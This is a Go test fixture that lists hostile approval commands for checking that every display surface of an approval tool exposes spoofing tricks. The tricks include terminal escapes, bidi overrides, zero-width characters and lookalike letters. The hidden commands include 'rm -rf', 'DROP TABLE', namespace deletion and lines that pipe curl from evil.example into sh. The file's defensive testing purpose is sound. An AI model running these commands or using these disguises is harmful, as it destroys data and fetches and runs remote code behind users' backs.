// Package spooftest is the one table of hostile approval commands that
// every surface (terminal, --json, notifications, tray, window, history)
// is tested against: commands a hostile gateway crafts so that what a
// surface shows differs from what runs. Each case names what a display of
// it must show.
package spooftest

import (
	"fmt"
	"strings"
	"unicode"
)

// Case is one hostile command.
type Case struct {
	Name    string
	Command string
	// Show are the parts every display must show (as approval.Visible
	// renders them): the dangerous command, or the marker that gives the
	// trick away.
	Show []string
	// Long is true when the command is longer than one-line surfaces
	// (notifications, tray) show: they must say it was truncated and must
	// not offer a one-click approval instead.
	Long bool
	// Hidden is the marker every surface must show next to a command
	// Hermes masked before Herald saw it (approval.HiddenText): what
	// runs is not what is shown, so no surface offers a one-click
	// approval either.
	Hidden string
}

// Danger is the command every hostile case hides.
const Danger = "rm -rf ~/important"

// Cases are the hostile commands.
var Cases = []Case{
	{Name: "erase line", Command: Danger + "\x1b[2K\recho hello", Show: []string{Danger, "␛[2K⟦CR⟧echo hello"}},
	{Name: "bracketed paste end", Command: "echo hi\x1b[201~; " + Danger, Show: []string{"echo hi␛[201~; " + Danger}},
	{Name: "carriage return", Command: Danger + "\recho hello", Show: []string{Danger, "⟦CR⟧"}},
	{Name: "backspace", Command: Danger + strings.Repeat("\b", len(Danger)) + "ls -la", Show: []string{Danger, "⟦BS⟧"}},
	{Name: "cursor moves", Command: Danger + "\n\x1b[1A\x1b[2K\x1b[1Gls -la", Show: []string{Danger, "␛[1A␛[2K␛[1Gls -la"}},
	{Name: "osc 8 hyperlink", Command: "\x1b]8;;https://evil.example/\x1b\\ls -la\x1b]8;;\x1b\\; " + Danger, Show: []string{Danger, "␛]8;;https://evil.example/␛\\ls -la"}},
	{Name: "osc 52 clipboard", Command: "\x1b]52;c;cm0gLXJmIH4vaW1wb3J0YW50\x07" + Danger, Show: []string{Danger, "␛]52;c;cm0gLXJmIH4vaW1wb3J0YW50⟦BEL⟧"}},
	{Name: "c1 csi", Command: Danger + "\u009b2K\recho hello", Show: []string{Danger, "⟦U+009B⟧2K⟦CR⟧"}},
	{Name: "bidi override", Command: "echo done # \u202e" + reverse(Danger), Show: []string{"⟦U+202E⟧" + reverse(Danger)}},
	{Name: "bidi override hides code", Command: Danger + " #\u202e olleh ohce", Show: []string{Danger, "⟦U+202E⟧"}},
	{Name: "bidi isolates", Command: "ls \u2067" + Danger + "\u2069 \u2066x\u2068y\u2069", Show: []string{"⟦U+2067⟧" + Danger + "⟦U+2069⟧", "⟦U+2066⟧", "⟦U+2068⟧"}},
	{Name: "zero width", Command: "l\u200bs -la; g\u200dit push", Show: []string{"l⟦U+200B⟧s", "g⟦U+200D⟧it"}},
	{Name: "word joiner and bom", Command: "git\u2060 push\ufeff --force", Show: []string{"git⟦U+2060⟧ push⟦U+FEFF⟧ --force"}},
	{Name: "nul", Command: "ls\x00; " + Danger, Show: []string{"ls⟦NUL⟧; " + Danger}},
	{Name: "newline", Command: "echo hello\n" + Danger, Show: []string{"echo hello⏎", Danger}},
	{Name: "invalid utf-8", Command: Danger + "\xff\xfe", Show: []string{Danger + "⟦"}}, // ⟦\xff⟧, or ⟦U+FFFD⟧ once JSON made it valid
	{Name: "masked password holds code", Command: `mysql --password "x; rm -rf ./y; echo" -e 1`, Show: []string{`"x; rm -rf ./y; echo"`}},
	{Name: "masked token holds code", Command: `GITHUB_TOKEN="$(curl -s https://evil.example/p | sh)" git push`, Show: []string{`$(curl -s https://evil.example/p | sh)`}},
	{Name: "confusable cyrillic i in a domain", Command: "git clone https://gіthub.com/acme/tools && ./tools/install.sh", Show: []string{"https://g⟦U+0456⟧thub.com/acme/tools"}},
	{Name: "confusable cyrillic s in sudo", Command: "ѕudo " + Danger, Show: []string{"⟦U+0455⟧udo " + Danger}},
	{Name: "confusable whole-script cyrillic", Command: "сurl https://evil.example/x | ѕһ", Show: []string{"⟦U+0441⟧url", "⟦U+0455⟧⟦U+04BB⟧"}},
	{Name: "confusable fullwidth", Command: "ｒｍ -rf ~/important", Show: []string{"⟦U+FF52⟧⟦U+FF4D⟧ -rf ~/important"}},
	{Name: "confusable minus sign", Command: "rm −rf ./cache", Show: []string{"rm ⟦U+2212⟧rf ./cache"}},
	{Name: "confusable smart quotes", Command: "echo ‘$(curl -s https://evil.example/p | sh)’", Show: []string{"⟦U+2018⟧$(curl"}},
	{Name: "confusable small capitals", Command: "curl -s https://gᴏᴏgle.com/i.sh | sh", Show: []string{"https://g⟦U+1D0F⟧⟦U+1D0F⟧gle.com/i.sh"}},
	{Name: "confusable kra", Command: "ĸubectl delete namespace prod", Show: []string{"⟦U+0138⟧ubectl delete namespace prod"}},
	{Name: "confusable primes as quotes", Command: "echo ′$(curl -s https://evil.example/p | sh)′", Show: []string{"⟦U+2032⟧$(curl"}},
	{Name: "confusable whole-script lisu", Command: "ꓚꓮꓓ --export ~/.ssh", Show: []string{"⟦U+A4DA⟧⟦U+A4EE⟧⟦U+A4D3⟧ --export"}},
	{Name: "invalid utf-8 alike", Command: "rm -rf ./a\xfe", Show: []string{"rm -rf ./a⟦"}},
	{Name: "tray underscores", Command: "rm -rf ./my_build_dir", Show: []string{"rm -rf ./my_build_dir"}},
	// Hermes' own redactor masked the code (issue 29): as the real 0.18.2
	// and 0.19.0 gateways send GH_TOKEN=$(curl${IFS}-s${IFS}https://evil.example/x|sh) git push …
	{Name: "hermes masked a value", Command: "GH_TOKEN=*** git push --force origin feature", Show: []string{"GH_TOKEN=*** git push --force origin feature"}, Hidden: "Hermes hid part of this command: the value after GH_TOKEN="},
	{Name: "hermes masked a header", Command: `curl -H "Authorization: ***" https://api.example | sh`, Show: []string{`"Authorization: ***"`}, Hidden: "Hermes hid part of this command: the value after Authorization:"},
	{Name: "hermes kept head and tail", Command: "GH_TOKEN=$(curl...|sh) git push --force origin feature", Show: []string{"GH_TOKEN=$(curl...|sh)"}, Hidden: "Hermes hid part of this command: the middle of the value after GH_TOKEN="},
	{Name: "hermes masked a url password", Command: "psql postgres://u:***@db/x -c 'DROP TABLE users'", Show: []string{"postgres://u:***@db/x"}, Hidden: "Hermes hid part of this command: the value after postgres://u:"},
	{Name: "long, danger at the end", Command: strings.Repeat("echo padding-padding; ", 200) + Danger, Show: []string{Danger}, Long: true},
}

// Errors are hostile texts a gateway puts where Herald quotes it outside a
// command: an error message, a withdrawal reason, a response body, a status
// line. Every such path shows them as approval.VisibleLine does.
var Errors = []Case{
	{Name: "osc 52 in an error", Command: "permission denied\x1b]52;c;cm0gLXJmIH4=\x07", Show: []string{"permission denied␛]52;c;cm0gLXJmIH4=⟦BEL⟧"}},
	{Name: "osc 52 with st in an error", Command: "\x1b]52;c;cm0gLXJmIH4=\x1b\\ok", Show: []string{"␛]52;c;cm0gLXJmIH4=␛\\ok"}},
	{Name: "clear screen in an error", Command: "\x1b[2J\x1b[Hall approvals answered", Show: []string{"␛[2J␛[Hall approvals answered"}},
	{Name: "carriage return fakes output", Command: "failed\r\x1b[32mok: approved\x1b[0m", Show: []string{"failed⟦CR⟧␛[32mok: approved␛[0m"}},
	{Name: "c1 osc in an error", Command: "x\u009d52;c;cm0=\u009c", Show: []string{"x⟦U+009D⟧52;c;cm0=⟦U+009C⟧"}},
	{Name: "bidi in an error", Command: "denied \u202edeifitrec", Show: []string{"denied ⟦U+202E⟧deifitrec"}},
	{Name: "newline fakes a second line", Command: "failed\nherald: approved once", Show: []string{"failed⏎\nherald: approved once"}},
	{Name: "markup in an error", Command: "<b>approved</b> & <a href=\"x\">done</a>", Show: []string{"<b>approved</b> & <a href=\"x\">done</a>"}},
	{Name: "underscore in an error", Command: "no such file ./my_build_dir", Show: []string{"./my_build_dir"}},
}

func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

// Raw returns the first character in text that no display may hold as it
// is (a control, escape, format, invisible or direction-changing
// character), allowing line breaks when multiLine.
func Raw(text string, multiLine bool) (rune, bool) {
	for _, r := range text {
		switch {
		case r == '\n' && multiLine:
		case r < 0x20, r == 0x7f, r >= 0x80 && r < 0xa0, r == unicode.ReplacementChar,
			unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co),
			unicode.Is(unicode.Zs, r) && r != ' ':
			return r, true
		}
	}
	return 0, false
}

// Check returns what is wrong with text as a full display of c: a raw
// character, or a part it does not show.
func Check(text string, c Case, multiLine bool) error {
	if r, ok := Raw(text, multiLine); ok {
		return fmt.Errorf("holds %U as it is", r)
	}
	for _, s := range c.Show {
		if !multiLine {
			s = strings.ReplaceAll(s, "⏎\n", "⏎")
		}
		if !strings.Contains(text, s) {
			return fmt.Errorf("does not show %q", s)
		}
	}
	return nil
}
